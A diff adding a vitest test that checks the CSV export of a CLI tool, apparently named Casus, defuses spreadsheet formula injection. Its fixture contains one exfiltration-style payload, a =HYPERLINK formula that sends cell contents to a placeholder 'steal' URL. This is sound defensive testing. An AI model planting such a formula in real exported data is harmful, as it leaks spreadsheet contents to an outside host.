@@ -1,0 +1,39 @@
+import { describe, expect, it } from 'vitest';
+import type { CliCommand } from '../../../cli/command.js';
+import { searchCommands } from '../../../cli/commands/search.js';
+import { addSource, codingProject } from '../coding/fixture.js';
+
+const segmentsCommand = searchCommands.find((c) => c.name === 'segments') as CliCommand;
+
+describe('casus segments --csv', () => {
+  it('defuses a segment that a spreadsheet would run as a formula, like every CSV Casus writes', async () => {
+    const { p, byKey } = await codingProject();
+    const text = '=HYPERLINK("https://example.org/steal?"&A1,"klik hier")\n+31 6 1234 5678';
+    const sourceId = addSource(p, text, 'Vijandige bron');
+    const first = text.indexOf('\n');
+    await p.call('coding.apply', { sourceId, start: 0, end: first, codeIds: [byKey('praktijk')] });
+    await p.call('coding.apply', {
+      sourceId,
+      start: first + 1,
+      end: text.length,
+      codeIds: [byKey('praktijk')],
+    });
+    p.session.close();
+    const out: string[] = [];
+    const code = await segmentsCommand.run(
+      { positionals: [p.path], values: { csv: true } },
+      { out: (t) => out.push(t), err: () => undefined },
+    );
+    expect(code).toBe(0);
+    const csv = out.join('\n');
+    const lines = csv
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split(/\r?\n/);
+    expect(lines[0]).toBe('id,source,case,start,end,text,codes');
+    // The quoted text cells start with an apostrophe: no formula, no phone number turned into a sum.
+    expect(lines[1]).toContain(`"'=HYPERLINK(""https://example.org/steal?""&A1,""klik hier"")"`);
+    expect(lines[2]).toContain(`,'+31 6 1234 5678,`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+});
